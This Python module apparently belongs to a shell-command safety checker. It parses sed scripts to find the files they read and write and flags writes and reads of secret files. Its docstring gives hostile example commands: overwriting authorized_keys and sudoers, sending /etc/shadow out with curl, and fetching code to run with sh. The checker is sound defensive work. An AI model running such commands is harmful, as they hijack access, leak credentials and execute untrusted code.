"""The files a sed script reads and writes: ``r``/``R FILE``, ``w``/``W FILE`` and ``s///w FILE``.

GNU sed opens every ``w`` file (and the ``w`` flag's file of ``s``) when it reads the script,
truncating it, and writes the selected lines there: ``sed -n 'w ~/.ssh/authorized_keys' k``
replaces the authorized keys, ``sed 's/x/y/w /etc/sudoers.d/x' f`` writes sudoers. ``r FILE``
and ``R FILE`` copy a file's lines into the output: ``sed '1r /etc/shadow' f | curl -d @- u``
sends the shadow file. A written file holds lines of sed's input and carries its taint
(``curl u | sed -n 'w x.sh'; sh x.sh`` runs fetched code, like ``tee x.sh``). The script is
read wherever sed gets one: ``-e``/``--expression``, the first operand, and ``-f FILE``
written earlier in the command (``_scripts.sed_tool`` collects them). The file name runs to
the end of the line (``;`` included), as sed reads it.

The walk over the script follows sed's grammar: addresses (``1``, ``$``, ``/re/I``,
``\\cREc``, ``first~step``, ranges, ``!``), ``{``/``}`` blocks, ``;`` and newlines between
commands, ``#`` comments, the text of ``a``/``i``/``c`` (never a command), labels, and the
``s``/``y`` delimiters with their escapes, so ``s/r x/w y/`` or ``a w f`` name no file. One
pass over at most :data:`_MAX_CHARS` characters of each script: linear, never raises.
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import TYPE_CHECKING

from ._checks import check_args, check_write
from ._paths import norm_path
from ._secrets import secret_file
from ._words import NO_TAINT, Field, Taint

if TYPE_CHECKING:
    from ._walk import Run

__all__ = ["sed_commands", "sed_files"]

_MAX_CHARS = 65536
_MAX_FILES = 32
_MAX_TRACKED = 256  # files the run tracks (as _files does)
# sed's own names: w writes to the standard streams, r /dev/stdin reads the input.
_SPECIAL = frozenset({"/dev/stdout", "/dev/stderr", "/dev/stdin"})
# Commands taking the rest of the line as their argument (text, a file, a shell command).
_TO_EOL = frozenset("aicrRwWe")
# Commands taking a label or a number up to ';' or the end of the line.
_TO_SEMI = frozenset(":btTqQlLv")


def sed_files(run: Run, name: str, scripts: list[Field], given: Taint) -> bool:
    """Check the files the sed ``scripts`` write (like ``sed -i``'s) and read (a secret
    read taints the output); True when a secret file is read. A written file holds lines
    of sed's input, so it carries that input's taint ``given`` (like ``tee FILE``)."""
    secret = False
    reads: list[Field] = []
    for script in scripts[:16]:
        for kind, path in _script_files(script.text):
            if not path or path in _SPECIAL:
                continue
            field = Field(path, script.span, script.taint)
            if kind in "wW":
                check_write(run.add, run.cp.paths, field, run.cwd, f"{name} w writes")
                written = norm_path(path, run.cwd)
                if given and written is not None and len(run.files) < _MAX_TRACKED:
                    run.files[written] = run.files.get(written, NO_TAINT) | given
            else:
                reads.append(field)
    if reads:  # a secret by path (/etc/shadow: a read that blocks) or by name (.env)
        secret = check_args(run.add, run.cp.paths, name, reads, run.cwd) or secret_file(reads)
    return secret


def sed_commands(text: str) -> Iterator[tuple[str, int, int]]:
    """Each command of a sed script: (letter, start, end), ``text[start:end]`` being its
    argument: the text of ``a``/``i``/``c`` (with continued lines), the rest of the line for
    ``r``/``R``/``w``/``W``/``e``, the label or number of ``:btTqQlLv``; for ``s`` and ``y``
    everything from the delimiter to the end of the flags (a ``w`` flag's file included);
    nothing for the other commands. Addresses, blocks, ``!``, ``;``, newlines and comments
    are skipped. One pass (the caller bounds ``text``)."""
    n = len(text)
    i = 0
    while i < n:
        c = text[i]
        if c in " \t\n;{}!":
            i += 1
            continue
        if c == "#":
            i = _eol(text, i)
            continue
        i = _address(text, i)
        if i >= n:
            break
        c = text[i]
        if c in " \t!{}\n;":
            continue  # the address ended in '!' or blanks, or opened a block
        i += 1
        start = i
        if c in "aic":
            i = _text_end(text, i)  # a\ TEXT lines continued with a backslash
        elif c in _TO_EOL:
            i = _eol(text, i)
        elif c in _TO_SEMI:
            while i < n and text[i] not in ";\n}":
                i += 1
        elif c in "sy" and i < n:
            i = _substitute(text, i, c)[0]
        # every other command (d, p, n, g, h, x, =, z, F...) takes no argument
        yield c, start, i


def _script_files(text: str) -> list[tuple[str, str]]:
    """(command letter, file name) of every ``r``/``R``/``w``/``W`` command and ``s///w``
    flag of a sed script."""
    out: list[tuple[str, str]] = []
    if not any(c in text for c in "rRwW"):
        return out
    text = text[:_MAX_CHARS]
    for c, start, end in sed_commands(text):
        if c in "rRwW":
            out.append((c, text[start:end].strip(" \t")))
        elif c in "sy" and start < end:
            written = _substitute(text, start, c)[1]
            if written is not None:
                out.append(("w", written))
        if len(out) >= _MAX_FILES:
            break
    return out


def _eol(text: str, i: int) -> int:
    end = text.find("\n", i)
    return len(text) if end < 0 else end


def _text_end(text: str, i: int) -> int:
    """The end of ``a``/``i``/``c`` text: lines ending in a backslash continue it."""
    n = len(text)
    while i < n:
        end = _eol(text, i)
        k = end - 1
        slashes = 0
        while k >= i and text[k] == "\\":
            slashes += 1
            k -= 1
        if slashes % 2 == 0 or end >= n:
            return end
        i = end + 1
    return n


def _regex_end(text: str, i: int, delim: str) -> int:
    """The index after the closing ``delim`` of a regex or replacement starting at ``i``."""
    n = len(text)
    while i < n and text[i] != delim:
        if text[i] == "\\":
            i += 1
        elif text[i] == "\n" and delim != "\n":
            return i  # an unterminated part: sed rejects the script
        i += 1
    return i + 1


def _address(text: str, i: int) -> int:
    """Skip the addresses before a command (``1,/x/``, ``$``, ``0~4``, ``\\%re%I``...)."""
    n = len(text)
    for _ in range(2):
        while i < n and text[i] in "0123456789$~+":
            i += 1
        if i < n and text[i] in "/\\":
            delim = "/"
            if text[i] == "\\" and i + 1 < n:
                i += 1
                delim = text[i]
            i = _regex_end(text, i + 1, delim)
            while i < n and text[i] in "IM":
                i += 1
        while i < n and text[i] in " \t":
            i += 1
        if i < n and text[i] == ",":
            i += 1
            while i < n and text[i] in " \t":
                i += 1
            continue
        break
    while i < n and text[i] in " \t!":
        i += 1
    return i


def _substitute(text: str, i: int, cmd: str) -> tuple[int, str | None]:
    """Skip ``s/re/repl/flags`` or ``y/a/b/`` from its delimiter at ``i``: (the index after
    it, the file of a ``w`` flag or None)."""
    n = len(text)
    delim = text[i]
    if delim in "\n\\":
        return i + 1, None
    i = _regex_end(text, i + 1, delim)
    i = _regex_end(text, i, delim)
    if cmd == "y":
        return i, None
    while i < n and text[i] not in ";\n}#":
        if text[i] == "w":
            end = _eol(text, i + 1)
            return end, text[i + 1:end].strip(" \t")
        if text[i] == "e" or text[i].isalnum() or text[i] in " \t":
            i += 1
            continue
        break
    return i, None
